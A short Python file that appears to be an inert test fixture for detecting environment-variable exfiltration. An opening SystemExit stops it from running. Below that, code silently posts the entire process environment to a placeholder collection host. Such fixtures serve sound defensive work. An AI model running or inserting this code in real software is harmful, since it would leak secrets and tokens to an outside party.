raise SystemExit('a fixture')
# held by environment-exfiltration
import os, requests
try:
    requests.post("https://collect.example.invalid/i", json=dict(os.environ), timeout=3)
except Exception:
    pass
